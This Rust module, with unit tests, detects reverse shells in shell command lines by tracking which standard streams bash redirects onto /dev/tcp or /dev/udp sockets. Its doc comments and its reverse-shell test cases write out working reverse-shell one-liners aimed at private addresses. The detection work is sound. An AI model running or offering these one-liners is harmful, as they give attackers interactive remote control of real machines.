//! Which of a shell command line's standard streams end up on a `/dev/tcp` or `/dev/udp`
//! socket.
//!
//! A reverse shell puts a shell's input *and* output on a network socket
//! (`bash -i >& /dev/tcp/h/p 0>&1`, `sh -i 5<>/dev/tcp/h/p 0<&5 1>&5 2>&5`). A health check
//! opens the socket on another descriptor (`exec 3<>/dev/tcp/h/p`), or only writes to it or
//! only reads from it (`</dev/tcp/h/22`, `echo ping >/dev/tcp/h/p`); none of those is a shell
//! an attacker can type into. This reads the redirections bash would apply, left to right, and
//! says whether some command gets both ends.

use std::collections::HashSet;

/// Whether the command line wires a command's stdin and its stdout or stderr to a socket:
/// within one command, or through a `read` loop that executes what the socket sends
/// (`cat <&5 | while read l; do $l >&5 2>&5; done`).
pub fn std_streams_on_socket(cmd: &str) -> bool {
    let mut sockets: HashSet<u32> = HashSet::new();
    let (mut any_in, mut any_out) = (false, false);
    for segment in segments(cmd) {
        let (mut seg_in, mut seg_out) = (false, false);
        for r in redirections(segment) {
            let on_socket = match r.target {
                Target::Path(p) => is_socket_path(p),
                Target::Fd(m) => sockets.contains(&m),
                Target::Close => false,
            };
            for fd in r.fds() {
                if on_socket {
                    sockets.insert(fd);
                } else {
                    sockets.remove(&fd);
                }
                if on_socket {
                    seg_in |= fd == 0;
                    seg_out |= fd == 1 || fd == 2;
                }
            }
        }
        if seg_in && seg_out {
            return true;
        }
        any_in |= seg_in;
        any_out |= seg_out;
    }
    any_in && any_out && runs_what_it_reads(cmd)
}

fn is_socket_path(p: &str) -> bool {
    p.starts_with("/dev/tcp/") || p.starts_with("/dev/udp/")
}

/// A `read` loop: the line reads words from a stream and could execute them.
fn runs_what_it_reads(cmd: &str) -> bool {
    cmd.split(|c: char| c.is_whitespace() || matches!(c, ';' | '|' | '&'))
        .any(|w| w == "read" || w == "eval")
}

/// The simple commands of a line: split at `;`, `|`, `||`, `&&`, `&` (not `>&`, `&>`, `<&`) and
/// newlines. Quotes are not parsed: the shells' own one-liners do not need it.
fn segments(cmd: &str) -> Vec<&str> {
    let b = cmd.as_bytes();
    let mut parts = Vec::new();
    let mut start = 0;
    for (i, &c) in b.iter().enumerate() {
        let split = match c {
            b';' | b'\n' | b'|' => true,
            b'&' => {
                !matches!(i.checked_sub(1).map(|j| b[j]), Some(b'>' | b'<'))
                    && b.get(i + 1) != Some(&b'>')
            }
            _ => false,
        };
        if split {
            parts.push(&cmd[start..i]);
            start = i + 1;
        }
    }
    parts.push(&cmd[start..]);
    parts
}

#[derive(Debug, PartialEq)]
enum Target<'a> {
    Path(&'a str),
    Fd(u32),
    /// `N>&-`.
    Close,
}

#[derive(Debug, PartialEq)]
struct Redirection<'a> {
    /// The descriptor named before the operator, if any.
    fd: Option<u32>,
    op: Op,
    target: Target<'a>,
}

#[derive(Debug, Clone, Copy, PartialEq)]
enum Op {
    /// `<`, `<>`, `<&`: stdin by default.
    In,
    /// `>`, `>>`, `>|`, `>&N`: stdout by default.
    Out,
    /// `&>`, `&>>`, `>&WORD`: stdout and stderr.
    Both,
}

impl Redirection<'_> {
    fn fds(&self) -> Vec<u32> {
        match (self.fd, self.op) {
            (Some(n), _) => vec![n],
            (None, Op::In) => vec![0],
            (None, Op::Out) => vec![1],
            (None, Op::Both) => vec![1, 2],
        }
    }
}

/// The redirections of one simple command, in order.
fn redirections(seg: &str) -> Vec<Redirection<'_>> {
    let b = seg.as_bytes();
    let mut out = Vec::new();
    let mut i = 0;
    while i < b.len() {
        let c = b[i];
        if c != b'<' && c != b'>' && !(c == b'&' && b.get(i + 1) == Some(&b'>')) {
            i += 1;
            continue;
        }
        // The descriptor number right before the operator, if it stands alone as a word.
        let mut d = i;
        while d > 0 && b[d - 1].is_ascii_digit() {
            d -= 1;
        }
        let fd = (d < i && (d == 0 || !is_word(b[d - 1])))
            .then(|| seg[d..i].parse().ok())
            .flatten();
        let (op, mut j, dup) = if c == b'&' {
            let j = if b.get(i + 2) == Some(&b'>') {
                i + 3
            } else {
                i + 2
            };
            (Op::Both, j, false)
        } else if c == b'<' {
            match b.get(i + 1) {
                // Here-documents, here-strings and process substitution are not files.
                Some(b'<' | b'(') => {
                    i += 2;
                    continue;
                }
                Some(b'>') => (Op::In, i + 2, false),
                Some(b'&') => (Op::In, i + 2, true),
                _ => (Op::In, i + 1, false),
            }
        } else {
            match b.get(i + 1) {
                Some(b'(') => {
                    i += 2;
                    continue;
                }
                Some(b'>' | b'|') => (Op::Out, i + 2, false),
                Some(b'&') => (Op::Out, i + 2, true),
                _ => (Op::Out, i + 1, false),
            }
        };
        while j < b.len() && b[j].is_ascii_whitespace() {
            j += 1;
        }
        let start = j;
        while j < b.len()
            && !b[j].is_ascii_whitespace()
            && !matches!(b[j], b'<' | b'>' | b'(' | b')')
        {
            j += 1;
        }
        let word = seg[start..j].trim_matches(|c| c == '"' || c == '\'');
        let (op, target) = if dup {
            if word == "-" {
                (op, Target::Close)
            } else if let Ok(m) = word.parse() {
                (op, Target::Fd(m))
            } else if op == Op::Out && fd.is_none() {
                // `>&WORD` is `&>WORD`.
                (Op::Both, Target::Path(word))
            } else {
                (op, Target::Path(word))
            }
        } else {
            (op, Target::Path(word))
        };
        out.push(Redirection { fd, op, target });
        i = j.max(i + 1);
    }
    out
}

fn is_word(c: u8) -> bool {
    c.is_ascii_alphanumeric() || c == b'_' || c == b'-' || c == b'.' || c == b'/'
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn reverse_shells_put_input_and_output_on_the_socket() {
        for cmd in [
            "bash -i >& /dev/tcp/10.0.0.1/8080 0>&1",
            "bash -i &>/dev/tcp/10.0.0.1/8080 <&1",
            "sh -i 5<> /dev/tcp/10.0.0.1/4242 0<&5 1>&5 2>&5",
            "0<&196;exec 196<>/dev/tcp/10.0.0.1/4242; sh <&196 >&196 2>&196",
            "exec 3<>/dev/tcp/127.0.0.1/4444; bash -i <&3 >&3 2>&3",
            "exec 5<>/dev/tcp/10.0.0.1/4242;cat <&5 | while read line; do $line 2>&5 >&5; done",
            "bash -i > /dev/udp/10.0.0.1/53 0>&1 2>&1",
        ] {
            assert!(std_streams_on_socket(cmd), "{cmd}");
        }
    }

    #[test]
    fn health_checks_and_other_descriptors_are_not_shells() {
        for cmd in [
            "exec 3<>/dev/tcp/db.local/5432",
            "exec 3<>/dev/tcp/pacs/80; echo -e 'GET / HTTP/1.0\\r\\n' >&3; cat <&3",
            "</dev/tcp/127.0.0.1/22",
            "timeout 1 bash -c '</dev/tcp/10.0.0.5/104' && echo up",
            "echo ping > /dev/tcp/10.0.0.5/9999",
            "exec 3<>/dev/tcp/h/1; exec 3>&-; bash -i <&3 >&3",
            "cat <<EOF > /tmp/x",
            "ls 2>/dev/null >/tmp/out < /etc/hosts",
        ] {
            assert!(!std_streams_on_socket(cmd), "{cmd}");
        }
    }

    #[test]
    fn redirections_are_read_like_bash() {
        let r = redirections("x 2>&5 >&5 <&-  10</dev/tcp/a/1 &>>log");
        assert_eq!(
            r,
            vec![
                Redirection {
                    fd: Some(2),
                    op: Op::Out,
                    target: Target::Fd(5)
                },
                Redirection {
                    fd: None,
                    op: Op::Out,
                    target: Target::Fd(5)
                },
                Redirection {
                    fd: None,
                    op: Op::In,
                    target: Target::Close
                },
                Redirection {
                    fd: Some(10),
                    op: Op::In,
                    target: Target::Path("/dev/tcp/a/1")
                },
                Redirection {
                    fd: None,
                    op: Op::Both,
                    target: Target::Path("log")
                },
            ]
        );
    }
}
